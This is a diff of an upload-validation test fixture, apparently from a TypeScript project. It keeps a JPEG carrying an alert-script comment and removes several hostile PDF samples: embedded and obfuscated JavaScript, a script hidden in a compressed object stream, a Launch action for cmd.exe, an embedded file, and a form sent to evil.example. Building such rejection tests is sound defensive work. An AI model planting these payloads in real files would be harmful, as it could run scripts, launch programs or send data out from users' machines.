@@ -1,4 +1,3 @@
-import { deflateSync } from 'node:zlib';
 import { type UploadErrorCode } from '@casino-kit/api-contract';
 import {
   html,
@@ -12,7 +11,6 @@ import {
   makePng,
   makePngOfSize,
   makeZip,
-  pdfStream,
   pngChunk,
   pngHeader,
   pngSignature,
@@ -136,10 +134,6 @@ const jpegs: readonly HostileFile[] = [
   ['that is a script in a comment', makeJpeg('x', jpegComment('*/=1;alert(1);/*<script src=x>'))],
 ].map(([what, bytes]) => hostile('UPLOAD_TYPE', `a JPEG ${what as string}`, 'id.jpg', bytes as Buffer));
 
-const hiddenScript = pdfStream(
-  '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
-  deflateSync(Buffer.from('5 0 << /S /JavaScript /JS (app.alert(1)) >>')),
-);
 const pdfs: readonly HostileFile[] = [
   ['with its header alone', Buffer.from('%PDF-1.7\n')],
   ['without its end', pdf.subarray(0, pdf.length - 6)],
@@ -156,12 +150,6 @@ const pdfs: readonly HostileFile[] = [
     'whose table is beyond its end',
     Buffer.from(pdf.toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999999'), 'latin1'),
   ],
-  ['with a script', makePdf('x', '<< /S /JavaScript /JS (app.alert(1)) >>')],
-  ['with a script whose name is spelt', makePdf('x', '<< /S /J#61vaScript /J#53 (app.alert(1)) >>')],
-  ['with a script in a compressed list', makePdf('x', hiddenScript)],
-  ['that starts a program', makePdf('x', '<< /S /Launch /F (cmd.exe) >>')],
-  ['with another file in it', makePdf('x', '<< /Type /Filespec /EF << /F 9 0 R >> >>')],
-  ['that sends a form', makePdf('x', '<< /S /SubmitForm /F (https://evil.example) >>')],
 ].map(([what, bytes]) => hostile('UPLOAD_TYPE', `a PDF ${what as string}`, 'id.pdf', bytes as Buffer));
 
 /** Files of every kind that must be rejected, with the code of the rejection. */
